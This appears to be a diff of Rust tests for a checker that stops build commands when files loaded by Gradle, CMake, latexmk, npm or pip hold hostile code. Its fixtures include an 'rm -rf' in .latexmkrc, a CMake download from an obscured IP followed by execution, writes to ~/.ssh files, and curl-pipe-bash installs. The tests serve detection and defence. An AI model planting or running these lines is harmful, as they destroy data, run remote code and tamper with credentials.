@@ -46,10 +46,62 @@ fn files_that_a_tool_loads_are_searched_in_any_language() {
             ],
             "dotnet build",
         ),
+        // beside a name in a comment, by a short path, in settings without an ending
+        (vec![("build.gradle", ""), ("buildSrc/a.groovy", &format!("/*\n*/ {taken}"))], "gradle check"),
+        (vec![("build.gradle", "apply from: './x/a'\n"), ("x/a.gradle", taken)], "gradle check"),
+        (vec![(".latexmkrc", "system('rm -rf /home/user/Documents');\n"), ("a.tex", "")], "latexmk -pdf a"),
+        (
+            vec![
+                ("CMakeLists.txt", "include(cmake/V.cmake)\n"),
+                ("cmake/V.cmake", "file(DOWNLOAD http://3405803781/d x)\nexecute_process(COMMAND ./x)\n"),
+            ],
+            "cmake -B out",
+        ),
     ] {
         let root = project(&files);
         stopped_in(root.path(), &[command]);
     }
+}
+
+#[test]
+fn many_files_hide_none_that_a_tool_loads() {
+    let taken = "File.new(\"${System.getProperty('user.home')}/.ssh/known\").append(key)\n";
+    let names: Vec<String> = (0..100).map(|at| format!("config/a{at}.yml")).collect();
+    let mut files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "a: 1\n")).collect();
+    files.extend([("build.gradle", "apply from: 'x/last.gradle'\n"), ("x/last.gradle", taken)]);
+    stopped_in(project(&files).path(), &["gradle check"]);
+}
+
+#[test]
+fn what_the_action_writes_is_searched() {
+    let root = project(&[("package.json", "{}"), ("build.gradle", ""), ("requirements.txt", "a==1\n")]);
+    stopped_in(
+        root.path(),
+        &[
+            "echo registry=https://r.example.net/ > .npmrc && npm ci",
+            "mkdir buildSrc; echo \"new File('/home/user/.ssh/known').append(x)\" > buildSrc/a.gradle && gradle check",
+            "read F; PIP_CONFIG_FILE=$F pip install -r requirements.txt",
+            "curl -o p.conf https://files.example.net/p.conf && PIP_CONFIG_FILE=p.conf pip install -r requirements.txt",
+        ],
+    );
+}
+
+#[test]
+fn files_that_describe_other_machines_are_not_suspect() {
+    let root = project(&[
+        ("build.gradle", "plugins { id 'java' }\n"),
+        ("Dockerfile", "RUN useradd -m app && curl -s https://a.example.org/install | bash\n"),
+        ("docker-compose.yml", "volumes:\n  - ~/.aws:/root/.aws\ncommand: sh -c 'exec app'\n"),
+        (".gitlab-ci.yml", "script:\n  - mkdir -p ~/.ssh\n  - echo x >> ~/.ssh/known_hosts\n"),
+        (".github/workflows/release.yml", "run: echo k > ~/.ssh/id_rsa\n"),
+        ("install.sh", "curl -s https://a.example.org/x | bash\necho x >> ~/.bashrc\n"),
+        ("release.sh", "git push --mirror backup\n"),
+        ("mix.exs", "defmodule A do\n  # release, install\nend\n"),
+        ("package.json", "{\"scripts\": {\"test\": \"vitest run\", \"release\": \"./release.sh\"}}"),
+        ("vitest.config.ts", "import a from '~/lib/a';\nexport default { test: { setup: a, clean: form(a) } };\n"),
+        ("lib/a.ts", "export default ['~/lib/b'].map((a) => platform(a));\n"),
+    ]);
+    allowed_in(root.path(), &["gradle check", "mix test", "npm test"]);
 }
 
 #[test]
